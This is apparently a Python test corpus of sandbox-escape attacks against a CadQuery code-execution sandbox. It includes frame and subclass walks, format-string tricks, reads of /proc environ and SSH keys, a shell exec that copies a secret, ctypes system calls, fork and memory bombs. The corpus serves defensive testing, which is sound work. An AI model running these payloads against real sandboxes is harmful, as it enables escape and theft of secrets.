"""Attacks on the sandbox, one entry per technique, grouped by class (what the public sandbox and
pyjail literature tries: frame/subclass/format walks, reader/writer abuse, bombs, /proc, fds, ...).

Each attack is a script template. Placeholders (plain text, so scripts keep their braces):

- ``@SECRET@``  a planted file outside the job (its content is a random token); reading it and
  getting the bytes out in anything the result carries is what the attack wants;
- ``@HOME@``    a planted ``$HOME``-like tree (``.ssh/id_rsa``, FreeCAD's ``user.cfg``);
- ``@MARKER@``  a path outside the job that must not be created;
- ``@OS@``      ``cq.occ_impl.exporters.os``, a real path to ``os`` through CadQuery's modules.

The pools also carry an environment canary (the same token) in the worker's environment.

``guarded`` is the set of statuses acceptable with the static policy on, ``open`` with it off
(the runtime layers alone). To add an attack, append an :class:`Attack`; the runner in
``test_sandbox_attacks.py`` checks every one for: no side effect outside the job, no token in the
result, a status from the set, bounded message/stdout, and a pool that still serves.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from core.sandbox import Status

F, RE, OK, NS, CR, TO, MEM = (
    Status.FORBIDDEN,
    Status.RUNTIME_ERROR,
    Status.OK,
    Status.NO_SOLID,
    Status.CRASHED,
    Status.TIMEOUT,
    Status.MEMORY,
)
HEAD = "import cadquery as cq\n"
OS_PATH = "cq.occ_impl.exporters.os"
# Reads the secret with whatever ``os`` it is given and raises its bytes as the message.
LEAK = "fd = {os}.open('@SECRET@', 0)\nraise ValueError({os}.read(fd, 400))\n"


@dataclass(frozen=True)
class Attack:
    klass: str
    name: str
    code: str
    guarded: frozenset[Status]
    open: frozenset[Status]
    timeout: float = 10.0

    @property
    def id(self) -> str:
        return f"{self.klass}:{self.name}"


def attack(
    klass: str,
    name: str,
    code: str,
    guarded: Iterable[Status] = (F,),
    open: Iterable[Status] = (RE,),
    timeout: float = 10.0,
) -> Attack:
    """One corpus entry; by default refused by the policy and a runtime error without it."""
    return Attack(klass, name, code, frozenset(guarded), frozenset(open), timeout)


ATTACKS: list[Attack] = [
    # --- frame walks: a frame's f_globals/f_back lead to the sandbox's own module and its `os`
    attack(
        "frame-generator",
        "gi_frame.f_back to the job module",
        "def g():\n    yield it.gi_frame.f_back.f_back.f_globals\nit = g()\nglb = next(it)\n"
        + LEAK.format(os="glb['os']"),
    ),
    attack(
        "frame-coroutine",
        "cr_frame of a running coroutine",
        "async def c():\n    return co.cr_frame.f_back.f_back.f_globals\nco = c()\n"
        "try:\n    co.send(None)\nexcept StopIteration as stop:\n    glb = stop.value\n"
        + LEAK.format(os="glb['os']"),
    ),
    attack(
        "frame-async-generator",
        "ag_frame",
        "async def a():\n    yield 1\nf = a().ag_frame\nglb = f.f_back.f_globals\n"
        + LEAK.format(os="glb['os']"),
    ),
    attack(
        "frame-traceback",
        "tb_frame of a caught exception",
        "try:\n    1 / 0\nexcept Exception as e:\n    tb = e.__traceback__\n"
        "glb = tb.tb_frame.f_back.f_globals\n" + LEAK.format(os="glb['os']"),
    ),
    attack(
        "frame-getframe",
        "sys._getframe().f_back to the job module",
        HEAD + "glb = @OS@.sys._getframe().f_back.f_globals\n" + LEAK.format(os="glb['os']"),
    ),
    attack(
        "code-objects",
        "build a function from a code object",
        "def f():\n    pass\ncode = f.__code__.replace(co_names=('open',))\nF = type(f)\ng = F(code, {})\n",
    ),
    # --- subclass walks: from () to object's subclasses to a function's globals to os
    attack(
        "subclass-walk",
        "object.__subclasses__ to os._wrap_close",
        "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == '_wrap_close':\n"
        "        g = c.__init__.__globals__\n"
        "fd = g['open']('@SECRET@', 0)\nraise ValueError(g['read'](fd, 400))\n",
        open=(RE,),
    ),
    attack(
        "subclass-walk-mro",
        "type.mro without __class__",
        "o = type.mro(type(()))[-1]\nsubs = type.__subclasses__(o)\n"
        "w = [c for c in subs if c.__name__ == '_wrap_close'][0]\ng = w.__init__.__globals__\n"
        + LEAK.format(os="g['path'].os"),
        open=(RE,),
    ),
    # --- match statements read attributes without an ast.Attribute node
    attack(
        "match-class-pattern",
        "object(<name>=x) from () to os",
        "match ():\n    case object(__class__=t):\n        pass\nmatch t:\n    case object(__base__=o):\n        pass\n"
        "match o:\n    case object(__subclasses__=subs):\n        pass\n"
        "for c in subs():\n    match c:\n        case object(__name__='_wrap_close', __init__=i):\n            break\n"
        "match i:\n    case object(__globals__=g):\n        pass\n"
        "fd = g['open']('@SECRET@', 0)\nraise ValueError(g['read'](fd, 400))\n",
    ),
    attack(
        "match-frame-pattern",
        "object(gi_frame=f)",
        "def g():\n    yield 1\nmatch g():\n    case object(gi_frame=f):\n        glb = f.f_back.f_globals\n"
        + LEAK.format(os="glb['os']"),
    ),
    # --- format strings walk attributes and items
    attack(
        "format-string",
        "str.format to os.environ through CadQuery's modules",
        HEAD
        + "print('{0.occ_impl.exporters.os.environ}'.format(cq))\nprint('{0.__globals__}'.format(cq.Workplane.box))\n",
        open=(NS,),
    ),
    attack(
        "format-map",
        "format_map with a field walking into sys.modules",
        HEAD + "print('{m.occ_impl.exporters.os.sys.modules}'.format_map({'m': cq}))\n",
        open=(NS,),
    ),
    attack(
        "format-runtime-template",
        "template built at run time, with a frame attribute",
        "def g():\n    yield 1\nt = '{0.gi' + '_frame.f_globals}'\nprint(t.format(g()))\n",
    ),
    attack(
        "fstring-spec",
        "nested replacement field in an f-string spec",
        "def g():\n    yield 1\nx = g()\ns = f\"{1:{'{0.gi_frame}'.format(x)}}\"\n",
    ),
    # --- builtins and names
    attack(
        "getattr-builtins",
        "getattr/vars/globals by string",
        HEAD + "o = getattr(getattr(cq, 'occ_impl'), 'exporters')\nv = vars(o)['os']\n",
        open=(RE,),
    ),
    attack(
        "vars-dir-type",
        "dir() names, type() three-argument form",
        HEAD + "names = dir(cq.occ_impl)\nT = type('T', (), {'x': 1})\n"
        "m = type(cq)\nprint(names[:3], T.x, m.__name__)\nsolid = cq.Workplane().box(1, 1, 1)\n",
        guarded=(OK,),
        open=(OK,),
    ),
    attack(
        "builtins-recovery",
        "print.__self__ is the real builtins module",
        "b = print.__self__\nf = b.open('@SECRET@')\nraise ValueError(f.read())\n",
    ),
    attack(
        "decorators",
        "decorators that call without parentheses",
        "@print\n@lambda _: open('@SECRET@').read()\nclass X:\n    pass\n",
    ),
    attack(
        "unicode-identifiers",
        "NFKC-equivalent spellings",
        "ｏｐｅｎ('@SECRET@')\nx = ().__ｃｌａｓｓ__\n",
    ),
    attack(
        "import-tricks",
        "os through an allowed package's attribute import",
        "from cadquery.occ_impl.exporters import os\n" + LEAK.format(os="os"),
    ),
    attack(
        "module-walk",
        "os reached as an attribute of CadQuery's modules",
        HEAD + LEAK.format(os="@OS@"),
    ),
    # --- CadQuery's and OCP's own readers and writers
    attack(
        "cq-exporters",
        "cq.exporters.export outside the job",
        HEAD + "cq.exporters.export(cq.Workplane().box(1, 1, 1), '@MARKER@.step')\n",
        open=(RE, NS),  # OCCT's writer fails quietly: Landlock refused the file
    ),
    attack(
        "cq-workplane-export",
        "Workplane.export and Shape.exportStl",
        HEAD + "w = cq.Workplane().box(1, 1, 1)\nw.val().exportStl('@MARKER@')\nw.export('@MARKER@.step')\n",
        open=(RE, NS),
    ),
    attack(
        "cq-assembly-save",
        "Assembly.save outside the job",
        HEAD + "a = cq.Assembly().add(cq.Workplane().box(1, 1, 1))\na.save('@MARKER@.step')\n",
        open=(RE, NS),  # OCCT's writer fails quietly: Landlock refused the file
    ),
    attack(
        "cq-importers",
        "importers reading a planted file",
        HEAD + "s = cq.importers.importStep('@SECRET@')\n",
        open=(RE,),
    ),
    attack(
        "cq-shape-import",
        "Shape.importBrep and importDXF on secrets",
        HEAD + "s = cq.Shape.importBrep('@HOME@/.ssh/id_rsa')\n",
        open=(RE,),
    ),
    attack(
        "ocp-readers",
        "OCP's STEP reader called directly",
        HEAD + "r = cq.occ_impl.importers.STEPControl_Reader()\nstatus = r.ReadFile('@SECRET@')\n"
        "raise ValueError(str(status) + str(r.NbRootsForTransfer()))\n",
        open=(RE, CR),  # OCCT dereferences the stream it could not open
    ),
    attack(
        "ocp-writers",
        "OCP's BREP/STL writers called directly",
        HEAD + "b = cq.Workplane().box(1, 1, 1).val().wrapped\n"
        "cq.occ_impl.shapes.BRepTools.Write_s(b, '@MARKER@')\ncq.occ_impl.shapes.StlAPI_Writer().Write(b, '@MARKER@')\n"
        "solid = cq.Workplane().box(1, 1, 1)\n",
        open=(OK, RE),
    ),
    attack(
        "stdlib-readers",
        "linecache/io.open_code reach files without open()",
        HEAD + "lc = @OS@.sys.modules['linecache']\nraise ValueError(lc.getline('@SECRET@', 1) + "
        "@OS@.sys.modules['io'].open_code('@SECRET@').read().decode())\n",
        open=(RE,),
    ),
    # --- resource bombs
    attack("memory-bomb", "8 GiB at once", "x = bytearray(8 * 1024 ** 3)\n", guarded=(MEM,), open=(MEM,)),
    attack(
        "huge-array-bomb",
        "a list of 10**10 items, a 10**11-character string",
        "x = [0] * (10 ** 10)\n",
        guarded=(MEM,),
        open=(MEM,),
    ),
    attack("cpu-bomb", "busy loop", "while True:\n    pass\n", guarded=(TO,), open=(TO,), timeout=1.5),
    attack(
        "recursion-bomb",
        "Python and C recursion",
        "def f():\n    return f()\ntry:\n    f()\nexcept RecursionError:\n    pass\n"
        "x = []\nfor _ in range(200000):\n    x = [x]\ns = repr(x)\n",
        guarded=(RE, CR),
        open=(RE, CR),
    ),
    attack(
        "output-bomb",
        "gigabytes of print",
        "for i in range(2000):\n    print('x' * 1000000)\n",
        guarded=(NS, TO),
        open=(NS, TO),
    ),
    attack(
        "long-message",
        "an exception text of a megabyte",
        "raise ValueError('y' * 1000000)\n",
        guarded=(RE,),
        open=(RE,),
    ),
    attack(
        "thread-bomb",
        "threads until the task limit",
        HEAD + "t = @OS@.sys.modules['_thread']\nfor i in range(100000):\n"
        "    t.start_new_thread(lambda: [x for x in iter(int, 1)], ())\n",
        open=(RE, TO, MEM, CR),
        timeout=5,
    ),
    attack(
        "process-bomb",
        "fork, posix_spawn, subprocess",
        HEAD + "while True:\n    @OS@.fork()\n",
    ),
    attack(
        "exec-process",
        "exec a shell",
        HEAD + "@OS@.execv('/bin/sh', ['sh', '-c', 'cat @SECRET@ > @MARKER@'])\n",
    ),
    attack(
        "ocp-crash",
        "a null edge into an OCCT adaptor (segfault)",
        HEAD + "c = cq.occ_impl.shapes.BRepAdaptor_Curve(cq.occ_impl.shapes.TopoDS_Edge())\n",
        guarded=(CR,),
        open=(CR,),
    ),
    # --- descriptors, /proc, symlinks, environment
    attack(
        "fd-reads",
        "read every descriptor number",
        HEAD + "out = []\nfor fd in range(64):\n    try:\n        out.append(@OS@.read(fd, 400))\n"
        "    except OSError:\n        pass\nraise ValueError(out)\n",
        open=(RE,),
    ),
    attack(
        "proc-reads",
        "the parent's environment and memory maps in /proc",
        HEAD
        + "p = @OS@.getppid()\nfd = @OS@.open(f'/proc/{p}/environ', 0)\nraise ValueError(@OS@.read(fd, 100000))\n",
    ),
    attack(
        "proc-self",
        "/proc/self/environ and /proc/1/cmdline",
        HEAD + "fd = @OS@.open('/proc/self/environ', 0)\nraise ValueError(@OS@.read(fd, 100000))\n",
    ),
    attack(
        "symlink-in-job",
        "a symlink in the job directory to the secret",
        HEAD + "@OS@.symlink('@SECRET@', 'link')\n" + LEAK.format(os="@OS@").replace("@SECRET@", "link"),
    ),
    attack(
        "hardlink-in-job",
        "a hard link in the job directory to the secret",
        HEAD + "@OS@.link('@SECRET@', 'hl')\n" + LEAK.format(os="@OS@").replace("@SECRET@", "hl"),
    ),
    attack(
        "dir-fd-escape",
        "openat from an allowed directory's descriptor",
        HEAD + "d = @OS@.open(@OS@.path.dirname(@OS@.__file__), 0)\n"
        "fd = @OS@.open('../../../../../../../../@SECRET@', 0, dir_fd=d)\nraise ValueError(@OS@.read(fd, 400))\n",
    ),
    attack(
        "home-reads",
        "SSH key, FreeCAD user config and directory listings",
        HEAD + "raise ValueError(str(@OS@.listdir('@HOME@')) + str(@OS@.listdir('@HOME@/.ssh')) + "
        "str(@OS@.read(@OS@.open('@HOME@/.config/FreeCAD/user.cfg', 0), 400)))\n",
    ),
    attack(
        "environment",
        "os.environ, getenv, environb",
        HEAD + "print(dict(@OS@.environ), @OS@.getenv('CADCODER_CANARY'), @OS@.environb)\n",
        open=(NS,),
    ),
    # --- network, signals, native code, interpreter hooks
    attack(
        "network",
        "a socket found by a subclass walk",
        "s = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'socket'][0]()\n"
        "s.connect(('127.0.0.1', 22))\n",
    ),
    attack(
        "signal-parent",
        "kill the zygote",
        HEAD + "@OS@.kill(@OS@.getppid(), 9)\n",
    ),
    attack(
        "ctypes",
        "ctypes reached through sys.modules",
        HEAD + "c = @OS@.sys.modules['ctypes']\nlibc = c.CDLL(None)\nlibc.system(b'touch @MARKER@')\n",
    ),
    attack(
        "gc-walk",
        "gc.get_referrers to the job's globals",
        HEAD + "gc = @OS@.sys.modules['gc']\nobjs = gc.get_objects()\n",
    ),
    attack(
        "tracing",
        "sys.settrace to see the sandbox's frames",
        HEAD + "@OS@.sys.settrace(lambda *a: None)\n",
    ),
    attack(
        "forged-answer",
        "write a result frame with a huge message to the result pipe",
        HEAD
        + "json = @OS@.sys.modules['json']\nbody = json.dumps({'status': 'runtime_error', 'message': 'z' * 100000}).encode()\n"
        "for fd in range(3, 32):\n    try:\n        @OS@.write(fd, len(body).to_bytes(8, 'big') + body)\n"
        "    except OSError:\n        pass\n",
        open=(RE, CR, NS),
    ),
]
